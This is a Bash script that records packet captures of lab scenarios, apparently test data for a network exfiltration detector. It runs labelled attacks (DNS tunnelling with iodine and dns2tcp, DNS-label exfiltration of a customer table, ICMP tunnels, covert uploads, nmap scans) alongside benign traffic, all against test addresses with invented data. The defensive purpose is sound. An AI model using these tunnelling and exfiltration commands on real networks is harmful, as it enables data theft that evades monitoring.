#!/bin/bash
# SPDX-License-Identifier: MIT
# record.sh SCENARIO...|all|list: runs real tools between the namespaces of ns.sh and records each scenario at the inside
# interface of the gateway into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping iodine dns2tcp ptunnel-ng hping3 nmap dnsmasq-base
# nginx-light openssh-server openssh-client curl netcat-openbsd bind9-dnsutils traceroute chrony udhcpc isc-dhcp-client
# avahi-daemon avahi-utils openssl python3 python3-aiosmtpd dnsdist stubby.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
replay=$here/../replay
prefix=${XFL_PREFIX:-xfl}
cli=(ip netns exec "$prefix-cli") gw=(ip netns exec "$prefix-gw") srv=(ip netns exec "$prefix-srv")
dir=
pids=()

# ---- helpers ----

bg() { # log command...: start a service, remember it
    local log=$1
    shift
    "$@" >"$dir/$log.log" 2>&1 </dev/null &
    pids+=($!)
}

stop_all() {
    local pid
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    for pid in "${pids[@]}"; do wait "$pid" 2>/dev/null || true; done
    pids=()
}

cleanup() {
    stop_all
    "$here/ns.sh" down
    [ -z "$dir" ] || rm -rf "$dir"
}

prepare() {
    dir=$(mktemp -d)
    chmod 755 "$dir"
    local zeros=/dev/zero
    # A table of invented customers in clear text, and bytes without any structure; the same in every run.
    python3 "$here/customers.py" 4000 >"$dir/customers.csv"
    openssl enc -aes-256-ctr -nosalt -K "$(printf '%064d' 7)" -iv "$(printf '%032d' 7)" -in $zeros 2>/dev/null |
        head -c 12582912 >"$dir/secret.bin" || true
    head -c 5000 "$dir/customers.csv" >"$dir/small.csv"
    head -c 12000 "$dir/secret.bin" >"$dir/small.bin"
    ssh-keygen -q -t ed25519 -N '' -C lab -f "$dir/id"
    ssh-keygen -q -t ed25519 -N '' -C lab -f "$dir/hostkey"
    cp "$dir/id.pub" "$dir/authorized"
    mkdir -p /run/sshd
    openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj /CN=example.test \
        -addext "subjectAltName=DNS:*.example.test,DNS:example.test" \
        -keyout "$dir/tls.key" -out "$dir/tls.crt" 2>/dev/null
    mkdir -p "$dir/www/up" "$dir/tmp"
    seq -f '<p>Paragraph %g of a page about tea, bread and the weather of the coming week.' 40 >"$dir/www/index.html"
    seq -f 'function f%g(x) { return document.getElementById("item-" + x).textContent.trim(); }' 100 >"$dir/www/app.js"
    head -c 24000 "$dir/secret.bin" >"$dir/www/photo.jpg"
}

resolver() { # the gateway's own resolver, as on a small office router
    bg dnsmasq "${gw[@]}" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --bogus-priv --pid-file="$dir/dnsmasq.pid" \
        --user=root --interface=gin --bind-interfaces --log-facility=- --local=/corp.example.test/ --local=/test/ --auth-ttl=60 \
        --local-ttl=120 --edns-packet-max=1232 \
        --server=/signed.example.test/203.0.113.21 --server=/x.example.test/203.0.113.21 --server=/t.example.test/203.0.113.20 \
        --server=/d.example.test/203.0.113.20 \
        --host-record=www.example.test,203.0.113.20,2001:db8:20::20 --host-record=shop.example.test,203.0.113.21 \
        --host-record=news.example.test,203.0.113.22,2001:db8:20::21 --host-record=mail.example.test,203.0.113.23 \
        --host-record=api.example.test,203.0.113.24 --host-record=files.example.test,203.0.113.20 \
        --host-record=time.example.test,203.0.113.25 --host-record=nas.corp.example.test,10.20.2.20 \
        --address=/cdn.example.test/203.0.113.22 --cname=img.example.test,e8231.dscb.edge.cdn.example.test \
        --host-record=e8231.dscb.edge.cdn.example.test,203.0.113.22 \
        --mx-host=example.test,mail.example.test,10 --mx-host=example.test,www.example.test,20 \
        --txt-record=example.test,"v=spf1 ip4:203.0.113.0/24 include:_spf.example.test ~all" \
        --txt-record=sel1._domainkey.example.test,"v=DKIM1; k=rsa; p=$(head -c 294 "$dir/secret.bin" | base64 -w 0)" \
        --txt-record=_dmarc.example.test,"v=DMARC1; p=reject; rua=mailto:dmarc@example.test" \
        --ptr-record=20.113.0.203.in-addr.arpa,www.example.test --ptr-record=21.113.0.203.in-addr.arpa,shop.example.test \
        --ptr-record=20.2.20.10.in-addr.arpa,nas.corp.example.test "$@"
    sleep 0.4
}

sshd_on() { # port [address]
    bg "sshd$1" "${srv[@]}" /usr/sbin/sshd -D -e -f /dev/null -o "ListenAddress=${2:-203.0.113.20}:$1" -o "HostKey=$dir/hostkey" \
        -o "AuthorizedKeysFile=$dir/authorized" -o StrictModes=no -o UsePAM=no -o PermitRootLogin=prohibit-password \
        -o "PidFile=$dir/sshd$1.pid" -o Subsystem="sftp /usr/lib/openssh/sftp-server" -o PrintMotd=no
    sleep 0.4
}

ssh_options() {
    printf '%s\n' -q -F /dev/null -i "$dir/id" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes
}

web() {
    cat >"$dir/nginx.conf" <<CONF
daemon off; pid $dir/nginx.pid; error_log $dir/nginx.err; user root; worker_processes 1;
events {}
http {
  access_log off; server_tokens off; client_max_body_size 0; client_body_buffer_size 16k;
  client_body_temp_path $dir/tmp/a; proxy_temp_path $dir/tmp/b; fastcgi_temp_path $dir/tmp/c; uwsgi_temp_path $dir/tmp/d; scgi_temp_path $dir/tmp/e;
  types { text/html html; text/csv csv; image/jpeg jpg; application/javascript js; application/octet-stream bin; }
  server {
    listen 443 ssl http2; listen [::]:443 ssl http2; listen 80; listen [::]:80; listen 203.0.113.20:53;
    server_name example.test; ssl_certificate $dir/tls.crt; ssl_certificate_key $dir/tls.key; root $dir/www;
    location /up/ { dav_methods PUT; create_full_put_path on; }
    location /post { proxy_pass http://127.0.0.1:8081; }
  }
  server { listen 127.0.0.1:8081; location / { default_type application/json; return 200 '{"ok":true}'; } }
}
CONF
    bg nginx "${srv[@]}" nginx -e "$dir/nginx.err" -p "$dir" -c "$dir/nginx.conf"
    sleep 0.5
}

cut_later() { # keeps the first frames of every flow whole, the rest to their headers
    python3 "$here/trim.py" "$@" "$dir/input.pcap" "$dir/cut.pcap"
    mv "$dir/cut.pcap" "$dir/input.pcap"
}

far_resolver() { # address of who answers in the clear: a resolver for DNS over TLS and HTTPS, outside
    cat >"$dir/far.conf" <<CONF
setLocal("127.0.0.1:5399")
addDOHLocal("203.0.113.22:443", "$dir/tls.crt", "$dir/tls.key", {"/dns-query"})
setACL({"0.0.0.0/0"})
newServer({address="$1"}):setUp()
CONF
    # Over TLS by way of that over HTTPS: dnsdist asks by TCP else, and iodined answers by UDP alone.
    cat >"$dir/far-tls.conf" <<CONF
setLocal("127.0.0.1:5398")
addTLSLocal("203.0.113.22:853", "$dir/tls.crt", "$dir/tls.key", {provider="openssl"})
setACL({"0.0.0.0/0"})
newServer({address="203.0.113.22:443", tls="openssl", subjectName="example.test", validateCertificates=false, dohPath="/dns-query"}):setUp()
CONF
    bg dnsdist-far "${srv[@]}" dnsdist --supervised --disable-syslog -C "$dir/far.conf"
    bg dnsdist-far-tls "${srv[@]}" dnsdist --supervised --disable-syslog -C "$dir/far-tls.conf"
}

wrapper() { # own address, source address, dot|doh, name of the resolver: a forwarder at the client that wraps DNS
    local port=853 path=
    if [ "$3" = doh ]; then port=443 path=', dohPath="/dns-query"'; fi
    cat >"$dir/wrap-$1.conf" <<CONF
setLocal("$1:53")
newServer({address="203.0.113.22:$port", source="$2", tls="openssl", subjectName="$4", validateCertificates=false$path}):setUp()
CONF
    bg "dnsdist-$1" "${cli[@]}" dnsdist --supervised --disable-syslog -C "$dir/wrap-$1.conf"
    sleep 1.5
}

padder() { # a forwarder at the client that pads to blocks of 128 bytes, over TLS
    cat >"$dir/stubby.yml" <<CONF
resolution_type: GETDNS_RESOLUTION_STUB
dns_transport_list: [GETDNS_TRANSPORT_TLS]
tls_authentication: GETDNS_AUTHENTICATION_NONE
tls_query_padding_blocksize: 128
idle_timeout: 10000
listen_addresses: [127.0.0.1]
upstream_recursive_servers:
  - address_data: 203.0.113.22
CONF
    bg stubby "${cli[@]}" stubby -C "$dir/stubby.yml"
    sleep 1.5
}

# ---- attacks ----

tunnel_iodine() { # server address as the client sees it, then further options of the client
    local to=$1
    shift
    bg iodined "${srv[@]}" iodined -f -c -P lab -l 203.0.113.20 198.19.0.1/27 t.example.test
    sleep 0.8
    bg iodine "${cli[@]}" iodine -f -P lab -r "$@" "$to" t.example.test
    local i
    for i in $(seq 60); do
        "${cli[@]}" ip -4 -o addr show 2>/dev/null | grep -q '198\.19\.0\.' && break
        sleep 0.5
    done
    echo "tunnel up after $i half seconds"
    sleep 1
    "${srv[@]}" timeout 60 sh -c "nc -l -N 198.19.0.1 9000 >$dir/got" &
    local receiver=$!
    sleep 0.4
    "${cli[@]}" timeout 55 sh -c "nc -N 198.19.0.1 9000 <$dir/small.bin" || true
    wait $receiver || true
    cmp "$dir/small.bin" "$dir/got" && echo "file arrived"
}

s_dns_iodine() { tunnel_iodine 203.0.113.20 -m 400; }

s_dns_iodine_resolver() {
    resolver
    tunnel_iodine 10.20.1.1 -T TXT -O Base32 -m 400
}

s_doh_iodine() {
    far_resolver 203.0.113.20
    wrapper 127.0.0.1 10.20.1.10 doh dns.example.test
    tunnel_iodine 127.0.0.1 -m 400
}

s_dot_iodine() {
    far_resolver 203.0.113.20
    padder
    tunnel_iodine 127.0.0.1 -T TXT -O Base32 -m 300
}

s_dns_dns2tcp() {
    cat >"$dir/dns2tcpd.conf" <<CONF
listen = 203.0.113.20
port = 53
user = nobody
chroot = $dir/tmp
domain = d.example.test
resources = ssh:203.0.113.20:22
CONF
    sshd_on 22
    bg dns2tcpd "${srv[@]}" dns2tcpd -F -f "$dir/dns2tcpd.conf"
    sleep 0.8
    bg dns2tcpc "${cli[@]}" dns2tcpc -z d.example.test -r ssh -l 2222 203.0.113.20
    sleep 1.5
    head -c 6000 "$dir/secret.bin" >"$dir/part.bin"
    local -a options
    mapfile -t options < <(ssh_options)
    "${cli[@]}" timeout 60 scp "${options[@]}" -P 2222 "$dir/part.bin" "root@127.0.0.1:$dir/got"
    cmp "$dir/part.bin" "$dir/got" && echo "file arrived"
}

s_dns_exfil_hex() {
    bg dnsd "${srv[@]}" python3 "$here/dnsd.py" --listen 203.0.113.21
    resolver
    head -c 12000 "$dir/customers.csv" >"$dir/part.csv"
    "${cli[@]}" timeout 60 python3 "$here/dns_exfil.py" --server 10.20.1.1 --domain x.example.test --source 10.20.1.11 \
        --encoding hex --type A --labels 3 --width 60 --rate 15 "$dir/part.csv"
}

s_dns_exfil_slow() {
    bg dnsd "${srv[@]}" python3 "$here/dnsd.py" --listen 203.0.113.21
    resolver
    "${cli[@]}" timeout 60 python3 "$here/dns_exfil.py" --server 10.20.1.1 --domain x.example.test --source 10.20.1.12 \
        --encoding base32 --type TXT --labels 2 --width 56 --rate 10 "$dir/small.csv"
}
after_dns_exfil_slow() {
    python3 "$here/stretch.py" --duration 10800 --gap 0.01 "$dir/input.pcap" "$dir/long.pcap"
    mv "$dir/long.pcap" "$dir/input.pcap"
}

s_icmp_ptunnel() {
    sshd_on 22
    bg ptunnel_server "${srv[@]}" timeout 60 ptunnel-ng -r203.0.113.20 -R22
    sleep 0.8
    bg ptunnel_client "${cli[@]}" timeout 60 ptunnel-ng -p203.0.113.20 -l2223 -r203.0.113.20 -R22
    sleep 1.5
    head -c 60000 "$dir/secret.bin" >"$dir/part.bin"
    local -a options
    mapfile -t options < <(ssh_options)
    "${cli[@]}" timeout 40 scp "${options[@]}" -P 2223 "$dir/part.bin" "root@127.0.0.1:$dir/got"
    cmp "$dir/part.bin" "$dir/got" && echo "file arrived"
}

s_icmp_hping() {
    head -c 40000 "$dir/customers.csv" >"$dir/part.csv"
    "${cli[@]}" timeout 30 hping3 -1 -c 40 --fast -d 1000 -E "$dir/part.csv" 203.0.113.20 | tail -3
}

s_icmp_v6() {
    head -c 40000 "$dir/customers.csv" >"$dir/part.csv"
    "${cli[@]}" timeout 30 python3 "$here/icmp6_send.py" --size 1000 --interval 0.05 2001:db8:20::20 "$dir/part.csv"
}

s_https_upload() {
    resolver
    web
    "${cli[@]}" curl -m 30 -sk --http1.1 -T "$dir/secret.bin" https://files.example.test/up/a.bin -w '%{http_code} %{size_upload}\n'
}
after_https_upload() { cut_later --whole 24 --keep 66; }

s_http_upload() {
    resolver
    web
    head -c 200000 "$dir/customers.csv" >"$dir/part.csv"
    "${cli[@]}" curl -m 30 -s -H 'Content-Type: text/csv' --data-binary "@$dir/part.csv" http://files.example.test/post -w '%{http_code} %{size_upload}\n'
}

# shellcheck disable=SC2034  # read as ${!snap} in record
snap_scp_upload=96
s_scp_upload() {
    sshd_on 22
    head -c 7340032 "$dir/secret.bin" >"$dir/part.bin"
    local -a options
    mapfile -t options < <(ssh_options)
    "${cli[@]}" timeout 40 scp "${options[@]}" "$dir/part.bin" "root@203.0.113.20:$dir/got"
    cmp "$dir/part.bin" "$dir/got" && echo "file arrived"
}

s_scan_nmap_syn() { "${cli[@]}" timeout 60 nmap -e xc0 -S 10.20.1.11 -Pn -n -sS -T4 -p 1-200 10.20.2.20 203.0.113.21 | tail -4; }
s_scan_nmap_sweep() {
    "${cli[@]}" timeout 90 nmap -e xc0 -S 10.20.1.12 -n -sn -PE -T4 --max-retries 1 10.20.2.0/25 | tail -2
    "${cli[@]}" timeout 90 nmap -e xc0 -S 10.20.1.12 -n -sn -PS445 -T4 --max-retries 1 10.20.2.0/24 | tail -2
}
s_scan_flags() {
    local how
    for how in -sN -sF -sX; do
        "${cli[@]}" timeout 60 nmap -e xc0 -S 10.20.1.13 -Pn -n "$how" -T4 -p 1-60 10.20.2.20 | tail -1
    done
}
s_arp_sweep() { "${cli[@]}" timeout 60 nmap -e xc0 -n -sn -PR -T4 10.20.1.0/24 | tail -1; }

s_ssh_on_443() {
    sshd_on 443
    head -c 180000 "$dir/secret.bin" >"$dir/part.bin"
    local -a options
    mapfile -t options < <(ssh_options)
    "${cli[@]}" timeout 20 ssh "${options[@]}" -p 443 root@203.0.113.20 true
    "${cli[@]}" timeout 20 scp "${options[@]}" -P 443 "$dir/part.bin" "root@203.0.113.20:$dir/got"
    cmp "$dir/part.bin" "$dir/got" && echo "file arrived"
}

s_http_on_53tcp() {
    web
    head -c 60000 "$dir/customers.csv" >"$dir/part.csv"
    "${cli[@]}" curl -m 20 -s --data-binary "@$dir/part.csv" http://203.0.113.20:53/post -w '%{http_code} %{size_upload}\n'
    "${cli[@]}" curl -m 20 -s http://203.0.113.20:53/ -o /dev/null -w '%{http_code}\n'
}

# ---- what must stay silent ----

s_benign_dns() {
    bg dnsd "${srv[@]}" python3 "$here/dnsd.py" --listen 203.0.113.21
    resolver
    local name source=10.20.1.10 i
    ask() { "${cli[@]}" dig +time=2 +tries=1 -b "$source" @10.20.1.1 "$@" >/dev/null || true; }
    for name in www shop news mail api files img time; do
        ask "$name.example.test" A
        ask "$name.example.test" AAAA
    done
    source=10.20.1.11
    for i in $(seq 1 12); do
        ask "d1x8k$i-pop$((i * 37 % 19)).edge$i.dsc-eu.cdn.example.test" A
        ask "r$i---sn-4g5e6nz$i.cdn.example.test" AAAA
    done
    ask f3a8c1d2-9b47-4e0a-8c11-7d25a0b9e6f1.cdn.example.test A
    source=10.20.1.12
    for name in printer wpad fileserver isatap shop.example.test; do
        ask "$name.corp.example.test" A
        ask "$name.corp.example.test" AAAA
    done
    for i in 20 21 30; do ask -x "203.0.113.$i"; done
    ask -x 10.20.2.20
    for i in 10.20.2.99 192.168.1.1; do ask -x "$i"; done
    source=10.20.1.13
    ask example.test MX
    ask example.test TXT
    ask sel1._domainkey.example.test TXT
    ask _dmarc.example.test TXT
    ask +dnssec signed.example.test DNSKEY
    ask +dnssec www.signed.example.test A
    ask +dnssec +tcp sel1._domainkey.example.test TXT
    ask _ldap._tcp.dc._msdcs.corp.example.test SRV
    ask nosuchname.example.test A
}

# People behind DNS over HTTPS, one of them idle; a mail server that asks block lists over TLS.
s_benign_doh() {
    bg dnsmasq-far "${srv[@]}" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root \
        --pid-file="$dir/dnsmasq-far.pid" --listen-address=203.0.113.21 --bind-interfaces --log-facility=- --auth-ttl=60 \
        --address=/example.test/203.0.113.20 --address=/zen.example.test/127.0.0.2
    far_resolver 203.0.113.21
    bg pages "${srv[@]}" python3 -m http.server -d "$dir/www" 80
    wrapper 127.0.0.1 10.20.1.10 doh cloudflare-dns.com
    wrapper 127.0.0.2 10.20.1.12 dot dns.example.test
    local i name
    for i in $(seq 1 30); do
        for name in "www$i" "r$i---sn-4g5e6nz$i.cdn" "d$((i * 7919))fk3k9s2.edge" "$i.telemetry.eu-west-1.prod.metrics.aws"; do
            "${cli[@]}" dig +time=2 +tries=1 @127.0.0.1 "$name.example.test" A >/dev/null || true
            "${cli[@]}" dig +time=2 +tries=1 @127.0.0.1 "$name.example.test" AAAA >/dev/null || true
        done
        "${cli[@]}" curl -m 3 -sk -o /dev/null --resolve "www$i.example.test:80:203.0.113.$((20 + i % 6))" "http://www$i.example.test/" || true
    done &
    local people=$!
    for i in $(seq 1 150); do
        name=$(printf 'address%s@example.net' "$i" | sha256sum | cut -c 1-52)
        "${cli[@]}" dig +time=2 +tries=1 @127.0.0.2 "$((i % 250)).$((i * 7 % 250)).113.203.zen.example.test" A >/dev/null || true
        "${cli[@]}" dig +time=2 +tries=1 @127.0.0.2 "$name._email.abcdefghijklmnopqrstuvwxyz.hbl.dq.example.test" A >/dev/null || true
    done
    wait $people || true
}

s_benign_web() {
    resolver
    web
    local site get=(-m 20 -sk -o /dev/null -o /dev/null)
    for site in www shop news api; do
        "${cli[@]}" curl "${get[@]}" "http://$site.example.test/"
        "${cli[@]}" curl "${get[@]}" --interface 10.20.1.11 "https://$site.example.test/" "https://$site.example.test/app.js"
        sleep 0.3
    done
    "${cli[@]}" curl "${get[@]}" https://img.example.test/photo.jpg
    "${cli[@]}" curl "${get[@]}" -6 https://www.example.test/app.js
    "${cli[@]}" curl "${get[@]}" http://files.example.test/photo.jpg
    "${cli[@]}" curl "${get[@]}" -d 'user=anna&lang=de&remember=1' https://shop.example.test/post
    "${cli[@]}" curl "${get[@]}" -H 'Content-Type: application/json' -d '{"event":"click","x":311,"y":87}' http://api.example.test/post
    "${cli[@]}" curl "${get[@]}" --http1.1 -d "comment=$(printf 'very good product. %.0s' 1 2 3 4 5 6)" https://shop.example.test/post
    "${cli[@]}" curl "${get[@]}" http://www.example.test/missing.html
}

s_benign_ping() {
    "${cli[@]}" ping -q -c 8 203.0.113.20 | tail -1
    "${cli[@]}" ping -q -c 6 -i 0.3 -s 1400 203.0.113.21 | tail -1
    "${cli[@]}" ping -q -c 30 -i 0.2 -I 10.20.1.11 10.20.2.20 | tail -1
    "${cli[@]}" ping -q -c 5 -i 0.5 2001:db8:20::20 | tail -1
    "${cli[@]}" ping -q -c 4 -i 0.3 -s 1400 2001:db8:20::21 | tail -1
    "${cli[@]}" ping -q -c 3 -i 0.3 -p ff00 203.0.113.22 | tail -1
    "${cli[@]}" ping -q -c 3 -W 1 203.0.113.77 | tail -1
    "${cli[@]}" traceroute -n -w 1 203.0.113.20 | tail -1
    "${cli[@]}" traceroute -n -w 1 -I 203.0.113.21 | tail -1
    "${cli[@]}" traceroute -6 -n -w 1 2001:db8:20::20 | tail -1
}

s_benign_ntp_dhcp() {
    printf 'local stratum 2\nallow\ncmdport 0\nbindcmdaddress /\npidfile %s/chronyd.pid\ndriftfile %s/drift\n' "$dir" "$dir" >"$dir/chrony.conf"
    bg chronyd "${srv[@]}" chronyd -d -x -u root -f "$dir/chrony.conf"
    resolver --dhcp-range=10.20.1.100,10.20.1.150,1h --dhcp-leasefile="$dir/leases" --dhcp-option=option:domain-name,corp.example.test \
        --dhcp-option=option:ntp-server,203.0.113.25 --dhcp-authoritative
    "${cli[@]}" timeout 15 udhcpc -f -q -n -i xc0 -s /bin/true -x hostname:laptop-07 2>&1 | tail -1 || true
    printf 'send host-name "laptop-08";\nrequest subnet-mask, routers, domain-name-servers, ntp-servers, domain-search;\n' >"$dir/dhclient.conf"
    : >"$dir/dhclient.leases"
    "${cli[@]}" timeout 15 dhclient -1 -d -v -sf /bin/true -cf "$dir/dhclient.conf" -lf "$dir/dhclient.leases" -pf "$dir/dhclient.pid" xc0 2>&1 |
        grep -m1 -E 'DHCPACK|bound|rror' || true
    "${cli[@]}" timeout 30 chronyd -Q -t 12 -u root -f /dev/null "pidfile $dir/chronyq.pid" 'server time.example.test iburst' 2>&1 | tail -1 || true
    local i
    for i in 1 2 3; do
        "${cli[@]}" timeout 20 chronyd -Q -t 8 -u root -f /dev/null "pidfile $dir/chronyq.pid" "server 203.0.113.25 iburst maxsamples 1" >/dev/null 2>&1 || true
        sleep 0.5
    done
}

s_benign_ssh() {
    resolver
    sshd_on 22 0.0.0.0
    local -a options
    mapfile -t options < <(ssh_options)
    {
        sleep 1.2
        local line i
        for line in 'cd /usr/share/doc/bash' 'ls -l | head -20' 'head -30 /usr/share/common-licenses/BSD' 'exit'; do
            for ((i = 0; i < ${#line}; i++)); do
                printf '%s' "${line:i:1}"
                sleep 0.09
            done
            printf '\r'
            sleep 0.8
        done
    } | "${cli[@]}" timeout 40 ssh -tt "${options[@]}" root@nas.corp.example.test >/dev/null || true
    head -c 120000 "$dir/secret.bin" >"$dir/report.pdf"
    "${cli[@]}" timeout 20 scp "${options[@]}" "root@www.example.test:$dir/report.pdf" "$dir/fetched.pdf"
    cmp "$dir/report.pdf" "$dir/fetched.pdf" && echo "download arrived"
}

# A mail client that begins in the clear on port 25 and turns to TLS: the name of the server is seen in the hello all the same.
s_benign_starttls() {
    resolver
    bg smtpd "${srv[@]}" /usr/bin/python3 -m aiosmtpd -n -l 203.0.113.23:25 --tlscert "$dir/tls.crt" --tlskey "$dir/tls.key" --no-requiretls
    sleep 1.5
    {
        local line
        for line in 'EHLO laptop-07.corp.example.test' 'MAIL FROM:<anna@example.test>' 'RCPT TO:<ben@example.test>' DATA; do
            sleep 0.4
            printf '%s\n' "$line"
        done
        sleep 0.4
        printf 'From: anna@example.test\nTo: ben@example.test\nSubject: minutes\n\n'
        seq -f 'Point %g: tea, bread and the weather of the coming week.' 30
        printf '.\n'
        sleep 0.4
        printf 'QUIT\n'
        sleep 0.4
    } | "${cli[@]}" timeout 20 openssl s_client -quiet -crlf -starttls smtp -name laptop-07.corp.example.test \
        -servername mail.example.test -connect mail.example.test:25 >"$dir/client.log" 2>&1 || true
    grep -q '^221 ' "$dir/client.log" && echo "mail taken"
}

s_benign_mdns_llmnr() {
    cat >"$dir/avahi.conf" <<CONF
[server]
host-name=laptop-07
use-ipv4=yes
use-ipv6=yes
allow-interfaces=xc0
enable-dbus=no
[publish]
publish-workstation=yes
CONF
    cat >"$dir/ipp.service" <<CONF
<service-group><name>Printer on laptop-07</name><service><type>_ipp._tcp</type><port>631</port><txt-record>rp=printers/laser</txt-record></service></service-group>
CONF
    bg avahi "${cli[@]}" avahi-daemon --no-chroot --no-drop-root --no-rlimits -f "$dir/avahi.conf"
    sleep 2.5
    "${cli[@]}" timeout 20 python3 "$here/name_queries.py" 10.20.1.11
    # questions from the gateway's side, which the daemon answers
    "${gw[@]}" timeout 20 dig +time=1 +tries=1 @10.20.1.13 -p 5353 laptop-07.local A | grep -c '^laptop-07.local' || true
    "${gw[@]}" timeout 20 dig +time=1 +tries=1 @10.20.1.13 -p 5353 _services._dns-sd._udp.local PTR | grep -c PTR || true
    sleep 1
}

s_benign_browser() {
    resolver
    web
    local -a urls=() get=(-m 12 --connect-timeout 4 -sk -o /dev/null)
    local site page
    for site in www shop news api img; do
        for page in "" app.js photo.jpg; do urls+=("https://$site.example.test/$page"); done
    done
    # six connections at once to each site, a few hosts that are gone, and one port that refuses
    local dead pid
    local -a waiting=()
    for dead in https://203.0.113.60/ https://203.0.113.61/ https://203.0.113.62:8443/ https://203.0.113.24:8443/ http://203.0.113.24:8080/; do
        "${cli[@]}" curl "${get[@]}" "$dead" &
        waiting+=($!)
    done
    for page in "${urls[@]}"; do
        "${cli[@]}" curl "${get[@]}" -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' "$page" &
        waiting+=($!)
    done
    for pid in "${waiting[@]}"; do wait "$pid" || true; done
    sleep 1
    "${cli[@]}" curl "${get[@]}" -Z --parallel-max 6 "https://www.example.test/{index.html,app.js,a.css,b.css,favicon.ico}" >"$dir/curl.log" 2>&1 || true
}

# ---- recording ----

scenarios() { declare -F | sed -n 's/^declare -f s_//p'; }

record() {
    local name=$1 snap=snap_$1 recorder status=0
    echo "== $name"
    "$here/ns.sh" down
    "$here/ns.sh" up
    "${gw[@]}" tcpdump --immediate-mode -U -B 65536 -Z root -i gin -s "${!snap:-0}" -w "$dir/input.pcap" >/dev/null 2>"$dir/tcpdump.log" &
    recorder=$!
    sleep 0.8
    "s_$name" || status=$?
    sleep 0.5
    kill -INT "$recorder"
    wait "$recorder" || true
    stop_all
    grep -E 'dropped by kernel' "$dir/tcpdump.log" | grep -v '^0 ' >&2 || true
    if declare -F "after_$name" >/dev/null; then "after_$name"; fi
    if [ "$status" -ne 0 ]; then
        echo "record.sh: $name failed ($status)" >&2
        if [ -n "${XFL_DEBUG:-}" ]; then tail -n 15 "$dir"/*.log >&2; fi
        return 0
    fi
    mkdir -p "$replay/$name"
    cp "$dir/input.pcap" "$replay/$name/input.pcap"
    stat -c '%s bytes' "$replay/$name/input.pcap"
}

case ${1:-} in
"" | -h | --help)
    echo "usage: record.sh SCENARIO...|all|list" >&2
    exit 2
    ;;
list)
    scenarios
    exit 0
    ;;
all) mapfile -t wanted < <(scenarios) ;;
*) wanted=("$@") ;;
esac
for name in "${wanted[@]}"; do
    declare -F "s_$name" >/dev/null || {
        echo "record.sh: no scenario $name; try list" >&2
        exit 2
    }
done
trap cleanup EXIT
trap 'exit 130' INT TERM
prepare
for name in "${wanted[@]}"; do record "$name"; done
